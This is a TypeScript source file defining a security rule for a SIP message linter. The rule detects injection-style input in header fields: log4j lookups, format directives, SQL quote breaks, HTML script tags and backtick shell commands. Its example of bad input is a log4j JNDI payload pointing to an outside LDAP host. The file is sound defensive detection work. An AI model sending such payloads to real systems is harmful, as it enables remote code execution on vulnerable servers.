import type { SipMessage, Span } from '@sipscope/parser';
import { messageRule, type Rule } from '../rule.ts';

/** Longer fields, and more of them, are in no message that an element makes. */
const longestField = 8192;
const mostFields = 200;

/** Columns of `Framing.fields`. */
const columns = { all: 6, nameStart: 0, lineEnd: 4 } as const;

/** `second`: what may stand behind the first character, in small letters. */
type Pattern = {
  readonly first: number;
  readonly second: readonly number[];
  readonly pattern: RegExp;
  readonly what: string;
};

const letters = Array.from({ length: 26 }, (_, at) => 0x61 + at);

/** Each is looked for only where its first two characters stand; so many characters are looked at. */
const patterns: readonly Pattern[] = [
  { first: 0x24, second: [0x7b], pattern: /^\$\{(jndi|env|sys|lower|upper):/i, what: 'a lookup of log4j' },
  { first: 0x25, second: [0x6e, 0x73, 0x78], pattern: /^(%n|%s|%x){3}/i, what: 'format directives of C' },
  {
    first: 0x27,
    second: [0x20, 0x6f, 0x61, 0x75, 0x3b, 0x2d],
    pattern: /^' ?(or |and |union |;|--)/i,
    what: 'the end of an SQL string',
  },
  { first: 0x3c, second: [0x73, 0x69], pattern: /^<(script|iframe|img src|svg)\b/i, what: 'an element of HTML' },
  { first: 0x60, second: [0x2f, ...letters], pattern: /^`[a-z/]{2,20} [^`]{0,20}`/i, what: 'a command of a shell' },
];
const mostLooked = 44;

export const attackInputRules: readonly Rule[] = [
  messageRule({
    id: 'SEC-007',
    title: 'Parser attack input',
    level: 'security',
    severity: 'security',
    rfc: 3261,
    section: '7.5',
    why: 'Such text is made to break parsers, logs and pages that show it.',
    advice: 'Drop such messages at the border, and see that logs and pages escape what they show.',
    right: 'User-Agent: Phone 1.0',
    wrong: 'User-Agent: ${jndi:ldap://192.0.2.66/a}',
    on: { requests: 'any', responses: 'any' },
    check({ message }) {
      const { fieldCount, bodyStart } = message.framing;
      if (fieldCount > mostFields) return { seen: `The message has ${fieldCount} header fields.` };
      const long = longField(message);
      if (long !== undefined) return { seen: `A header field has ${long[1] - long[0]} bytes.`, span: long };
      const head = message.bytes.subarray(message.framing.leading, bodyStart);
      const nul = head.indexOf(0);
      const base = message.framing.leading;
      if (nul >= 0) return { seen: 'A NUL stands in the header fields.', span: [base + nul, base + nul + 1] };
      const attack = attackIn(head);
      if (attack !== undefined)
        return { seen: `The header fields have ${attack.what}.`, span: [base + attack.at, base + attack.end] };
      return 'kept';
    },
  }),
];

function longField({ framing: { fields, fieldCount } }: SipMessage): Span | undefined {
  for (let at = 0; at < fieldCount * columns.all; at += columns.all) {
    const start = fields[at + columns.nameStart]!;
    const end = fields[at + columns.lineEnd]!;
    if (end - start > longestField) return [start, end];
  }
  return undefined;
}

/** Of a message, places that are looked at. */
const mostPlaces = 200;

/** By byte: the pattern that may begin there; for most bytes there is none. */
const patternOfByte: readonly (Pattern | undefined)[] = Array.from({ length: 256 }, (_, byte) =>
  patterns.find(({ first }) => first === byte),
);

type Attack = { readonly what: string; readonly at: number; readonly end: number };

function attackIn(head: Uint8Array): Attack | undefined {
  let places = 0;
  for (let at = 0; at < head.length; at++) {
    const one = patternOfByte[head[at]!];
    if (one === undefined || !one.second.includes(head[at + 1]! | 0x20) || isUri(head, at)) continue;
    if (++places > mostPlaces) return undefined;
    const found = one.pattern.exec(String.fromCharCode(...head.subarray(at, at + mostLooked)));
    if (found !== null) return { what: one.what, at, end: at + found[0].length };
  }
  return undefined;
}

/** `<sip:` and `<sips:`, which stand in every message. */
function isUri(head: Uint8Array, at: number): boolean {
  return head[at] === 0x3c && head[at + 2] === 0x69 && head[at + 3] === 0x70;
}
